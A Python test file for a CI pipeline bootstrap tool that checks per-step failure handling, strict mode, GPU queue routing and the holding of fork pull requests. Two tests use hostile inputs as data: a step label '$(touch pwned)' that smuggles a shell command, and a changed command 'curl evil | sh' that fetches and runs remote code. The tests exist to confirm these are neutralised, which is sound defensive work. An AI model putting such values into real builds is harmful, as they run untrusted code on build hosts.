"""A problem confined to one step makes that step fail on its own; the rest of the build is uploaded. --strict still refuses."""

from __future__ import annotations

import pytest

from constructs_lib.bootstrap.jobs import FAILURE_REASON
from constructs_lib.queues.problems import LoadError
from tests.job_shell import run_step

from .helpers import fleet_2024, run, step, steps_of, unsectioned

STEPS = """\
steps:
- label: Good
  key: good
  command: pytest good
- label: Both forms
  key: both
  command: a
  commands: [b]
- label: Far too long
  command: c
  timeout_in_minutes: 99999999
- label: Needs both
  depends_on: both
  command: d
"""


def test_each_broken_step_fails_alone_with_its_reason_and_the_rest_is_uploaded(tmp_path):
    result = run(STEPS, fleet_2024(), run_all=True)
    keys = {s.get("key") for s in steps_of(result.pipeline)}
    assert {"good", "both", "needs-both"} <= keys
    assert step(result.pipeline, "good")["plugins"]  # routed and run as before
    both = step(result.pipeline, "both")
    assert both["agents"] == {"queue": "bootstrap"} and "plugins" not in both
    assert "give either command or commands, not both" in both["env"][FAILURE_REASON]
    done = run_step(both, {}, tmp_path)
    assert done.returncode == 1 and "steps[1].command: give either command or commands, not both" in done.stderr
    messages = [e.message for e in result.errors]
    assert any("give either command or commands" in m for m in messages) and any(
        "timeout_in_minutes" in str(e) for e in result.errors
    )
    assert "error" in result.explain.lower() and "Both forms" in result.explain


def test_strict_refuses_with_every_problem():
    with pytest.raises(LoadError) as caught:
        run(STEPS, fleet_2024(), run_all=True, strict=True)
    assert len(caught.value.problems) == 2


def test_a_problem_of_the_whole_file_still_refuses():
    with pytest.raises(LoadError):
        run("steps: {not: a list}\n", fleet_2024())


def test_a_reason_is_data_to_the_shell(tmp_path):
    hostile = 'steps:\n- label: "$(touch pwned)"\n  command: a\n  commands: [b]\n'
    broken = next(
        s
        for s in steps_of(run(hostile, fleet_2024(), run_all=True).pipeline)
        if "env" in s and FAILURE_REASON in s["env"]
    )
    assert all("pwned" not in c for c in broken["commands"])
    run_step(broken, {}, tmp_path)
    assert not (tmp_path / "pwned").exists()


MULTI_NODE_ONE_COMMAND = """\
steps:
- label: 2 Node Test (4 GPUs)
  num_gpus: 2
  num_nodes: 2
  commands:
  - ./.buildkite/scripts/run-multi-node-test.sh /vllm-workspace/tests 2 2 img "echo a" "echo b"
"""


def test_a_multi_node_step_with_one_command_list_runs_it_on_one_host_of_its_gpus_as_vllm_does():
    from .helpers import default_queues

    result = run(MULTI_NODE_ONE_COMMAND, default_queues(), run_all=True)
    assert not result.errors
    built = step(result.pipeline, "2-node-test-4-gpus")
    assert built["agents"] == {"queue": "gpu_4_queue"}  # 2 nodes x 2 GPUs on one host
    commands = unsectioned(built["commands"])
    assert "plugins" not in built and commands[0].startswith("./.buildkite/scripts/run-multi-node-test.sh")


def test_a_fork_prs_one_command_multi_node_step_runs_only_as_the_merge_base_defines_it():
    from .helpers import default_queues, single

    fork = {"branch": "someone:x", "pull_request": "3", "untrusted": True, "run_all": True}
    changed = MULTI_NODE_ONE_COMMAND.replace('"echo b"', '"curl evil | sh"')
    held = run(changed, default_queues(), base_source=single(MULTI_NODE_ONE_COMMAND), **fork)
    assert "block-2-node-test-4-gpus" in {s.get("key") for s in steps_of(held.pipeline)}
    same = run(MULTI_NODE_ONE_COMMAND, default_queues(), base_source=single(MULTI_NODE_ONE_COMMAND), **fork)
    assert "block-2-node-test-4-gpus" not in {s.get("key") for s in steps_of(same.pipeline)}


def test_agent_tags_of_the_current_layout_reach_the_steps_agents_beside_its_queue():
    from .helpers import default_queues

    text = (
        "steps:\n- label: XPU\n  key: xpu\n  no_gpu: true\n  command: a\n"
        "  agent_tags: {label: production, gpu: 2+, mem: 24+, queue: elsewhere}\n"
    )
    result = run(text, default_queues(), run_all=True)
    agents = step(result.pipeline, "xpu")["agents"]
    assert agents["label"] == "production" and agents["gpu"] == "2+" and agents["mem"] == "24+"
    assert agents["queue"] != "elsewhere"
    assert any("agent_tags.queue" in str(w) for w in result.warnings)
